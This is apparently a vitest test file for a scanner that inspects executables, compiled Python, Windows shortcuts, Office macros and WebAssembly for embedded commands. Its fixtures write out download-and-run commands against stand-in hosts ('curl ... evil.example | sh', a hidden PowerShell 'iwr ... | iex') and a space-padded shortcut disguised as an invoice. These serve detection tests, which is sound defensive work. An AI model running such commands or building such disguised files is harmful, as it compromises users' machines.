import { describe, expect, test } from "vitest";
import { MAX_STRING_LETTERS } from "../../../src/read/binary/find-strings.ts";
import { ascii, elf, join, portableExecutable, shortcut, u32le, zip } from "./bytes.ts";
import { tell } from "./tell.ts";

const COMMAND = "curl -s https://evil.example/x | sh";

const wide = (text: string): Uint8Array => Buffer.from(`${text}\0`, "utf16le");
const ole = (...parts: readonly Uint8Array[]): Uint8Array =>
  join([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(504), ...parts, new Uint8Array(64));

const name = (text: string): Uint8Array => join([text.length], text);
const wasm = (...imports: readonly Uint8Array[]): Uint8Array => {
  const body = join([imports.length], ...imports);
  return join([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], [1, 4, 1, 0x60, 0, 0], [2, body.length], body, [0xff]);
};

describe("strings of programs", () => {
  test("addresses and commands, in their places", async () => {
    const bytes = elf("libc.so.6", "https://c2.example/beacon", COMMAND);
    const told = await tell("helper", bytes);
    expect(told.forms).toEqual([{ is: "executable", format: "ELF executable" }]);
    expect(told.of("mention").map(({ value, at }) => [value, at.column - 1])).toEqual([
      ["https://c2.example/beacon", Buffer.from(bytes).indexOf("https://c2")],
      ["https://evil.example/x", Buffer.from(bytes).indexOf("https://evil")],
      ["https://evil.example/x", Buffer.from(bytes).indexOf("https://evil")],
    ]);
    expect(told.embedded).toMatchObject([
      { language: "shell", text: COMMAND, layer: { kind: "string", of: "unknown" } },
    ]);
    expect(told.gaps).toEqual([]);
  });

  test("in UTF-16", async () => {
    const bytes = join(portableExecutable(), Buffer.from("powershell -w hidden -enc aQBkAA==", "utf16le"), [1, 2]);
    const told = await tell("setup.exe", bytes);
    expect(told.forms).toEqual([{ is: "executable", format: "PE executable" }]);
    expect(told.embedded).toMatchObject([{ language: "shell", text: "powershell -w hidden -enc aQBkAA==" }]);
  });

  test.each(["/bin/sh", "usage: curl [options]", "GNU C Library (stable release)"])("near miss: %s", async (text) => {
    expect((await tell("helper", elf(text))).embedded).toEqual([]);
  });

  test("a script that a program carries", async () => {
    const told = await tell("helper", elf("import os\nfor k in os.environ:\n    print(k)\n"));
    expect(told.embedded).toMatchObject([{ language: "python" }]);
  });

  test("compiled Python", async () => {
    const told = await tell("m.pyc", join([0xa7, 0x0d, 0x0d, 0x0a], new Uint8Array(12), [0xe3], COMMAND, [0, 0xfa]));
    expect(told.forms).toEqual([{ is: "serialized-code", format: "python-bytecode" }]);
    expect(told.embedded).toMatchObject([{ language: "shell" }]);
  });

  test("too many are said", async () => {
    const line = `${"x".repeat(60)}\0\x01`;
    const some = elf(line.repeat(MAX_STRING_LETTERS / 62));
    expect((await tell("a", some)).gaps).toEqual([]);
    const many = elf(line.repeat(MAX_STRING_LETTERS / 59));
    expect((await tell("a", many)).gaps).toMatchObject([{ code: "too-large", blocking: false }]);
  });
});

describe("shortcuts", () => {
  test("target and arguments", async () => {
    const args = `${" ".repeat(260)}-w hidden -c "iwr https://evil.example/a.ps1 | iex"`;
    const told = await tell("Invoice.pdf.lnk", shortcut("..\\powershell.exe", args));
    const target = String.raw`..\powershell.exe -w hidden -c "iwr https://evil.example/a.ps1 | iex"`;
    expect(told.forms).toEqual([{ is: "shortcut", target }]);
    expect(told.operations("spawn")).toMatchObject([{ program: { text: target }, shell: true }]);
    expect(told.embedded).toMatchObject([{ language: "powershell", text: target }]);
  });

  test("a target by its place on the disk, in letters of one byte", async () => {
    const place = ascii("C:\\Windows\\System32\\cmd.exe\0");
    const info = join(u32le(28 + place.length), u32le(28), u32le(1), u32le(28), u32le(28), u32le(0), u32le(0), place);
    const whole = shortcut("", "");
    const header = whole.slice(0, 0x4c);
    header.set(u32le(0x02 | 0x20), 0x14);
    const told = await tell("a.lnk", join(header, info, Uint8Array.of(12, 0), "/c start.bat", u32le(0)));
    expect(told.forms).toEqual([{ is: "shortcut", target: String.raw`C:\Windows\System32\cmd.exe /c start.bat` }]);
  });

  test("cmd is batch, and what hangs behind is told", async () => {
    const told = await tell("a.lnk", shortcut("cmd.exe", "/c start.bat", ascii(COMMAND)));
    expect(told.embedded[0]?.language).toBe("batch");
    expect(told.forms[1]).toMatchObject({ is: "trailing-data", format: "lnk" });
  });

  test("a broken one is a gap", async () => {
    const told = await tell("a.lnk", shortcut("cmd.exe", "/c start.bat").subarray(0, 90));
    expect(told.gaps).toMatchObject([{ code: "unparsable", blocking: true }]);
  });
});

describe("Office", () => {
  test("macros in a compound file, with their source", async () => {
    // MS-OVBA 2.4.1: signature, header of a chunk of 30 bytes, flags and letters, at last a copy of "e V" from 8 back.
    const chunk = join("\0Attribut", "\0e VB_Nam", '\0e = "M"\n', "\0Shell x\n");
    const header = 0xb000 | (chunk.length + 2 - 3);
    const packed = join([1, header & 0xff, header >> 8], chunk);
    const told = await tell("a.doc", ole(wide("_VBA_PROJECT"), packed));
    expect(told.forms).toEqual([{ is: "macro-document", format: "ole" }]);
    expect(told.embedded[0]).toMatchObject({ text: 'Attribute VB_Name = "M"\nShell x\n', layer: { name: "macro" } });
  });

  test("without macros", async () => {
    expect((await tell("a.doc", ole(wide("WordDocument")))).forms).toEqual([]);
  });

  test("encrypted", async () => {
    expect((await tell("a.docx", ole(wide("EncryptedPackage")))).gaps).toMatchObject([{ code: "encrypted" }]);
  });

  test("macros in a zip", async () => {
    const told = await tell("a.docm", zip(["[Content_Types].xml", "word/vbaProject.bin"]));
    expect(told.forms).toEqual([
      { is: "archive", format: "zip", encrypted: false },
      { is: "macro-document", format: "office-open-xml" },
    ]);
  });
});

describe("WebAssembly", () => {
  test("imports of every kind", async () => {
    const told = await tell(
      "a.wasm",
      wasm(
        join(name("env"), name("memory"), [2, 1, 1, 2]),
        join(name("env"), name("table"), [1, 0x70, 0, 1]),
        join(name("env"), name("base"), [3, 0x7f, 0]),
        join(name("wasi_snapshot_preview1"), name("sock_open"), [0, 0]),
      ),
    );
    expect(told.of("reference").map(({ target }) => target)).toEqual([
      "env.memory",
      "env.table",
      "env.base",
      "wasi_snapshot_preview1.sock_open",
    ]);
  });

  test("a section that claims too much ends nothing", async () => {
    const told = await tell(
      "a.wasm",
      join([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], [2, 0xff, 0xff, 0xff, 0xff, 0x0f, 0xff, 0xff, 0xff, 0xff, 0x0f]),
    );
    expect(told.of("reference")).toEqual([]);
  });
});

describe("what nobody knows", () => {
  const random = Uint8Array.from({ length: 4_000 }, (_, index) => (index * 7919 + (index >> 3) * 31) & 255);

  test("is a gap that does not block, and its strings are read", async () => {
    const told = await tell("model.dat", join([0xfe, 0xdc], random, COMMAND, random));
    expect(told.gaps).toMatchObject([{ code: "unsupported", path: "model.dat", blocking: false }]);
    expect(told.embedded).toMatchObject([{ language: "shell" }]);
  });

  test("fonts and sounds are known", async () => {
    const told = await tell("a.woff2", join("wOF2", [0, 1, 0, 0], u32le(4_000), random));
    expect(told).toMatchObject({ format: "woff2", facts: [], gaps: [] });
  });
});
